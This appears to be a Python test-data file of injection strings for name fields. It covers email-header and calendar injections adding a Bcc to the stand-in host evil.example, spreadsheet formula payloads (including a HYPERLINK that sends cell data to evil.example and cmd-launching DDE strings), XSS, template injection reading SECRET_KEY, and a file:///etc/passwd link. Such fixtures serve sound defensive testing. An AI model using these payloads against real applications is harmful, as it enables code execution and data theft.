"""What people could type where a name belongs, to reach another program than the one that asks."""

CANARY = "evil.example"
NEW_LINES = [
    f"Ada\r\nBcc: x@{CANARY}",
    f"Ada\nBcc: x@{CANARY}",
    f"Ada\rBcc: x@{CANARY}",
    f"Ada\r\n\r\n<script>{CANARY}</script>",
    f"Ada\x0bBcc: x@{CANARY}",
    f"Ada\x0cBcc: x@{CANARY}",
    f"Ada\x85Bcc: x@{CANARY}",
    f"Ada\u2028ATTENDEE:mailto:x@{CANARY}",
    f"Ada\u2029DESCRIPTION:{CANARY}",
    "Ada\x00Byron",
    "Ada\x1b[31mByron",
    "Ada\u202enoryB",
    "Ada\x7f",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"Ada")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "|calc",
    '";=1+1;"',
    "a,=1+1\n=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ settings.SECRET_KEY }}",
    "{% include 'x' %}",
    "%(name)s %s {0} {}",
    "BEGIN:VEVENT;END:VCALENDAR",
    "\\n\\,\\;ATTENDEE:x",
    "</title><link rel=attachment href=file:///etc/passwd>",
]
EVERYTHING = NEW_LINES + FORMULAS + MARKUP
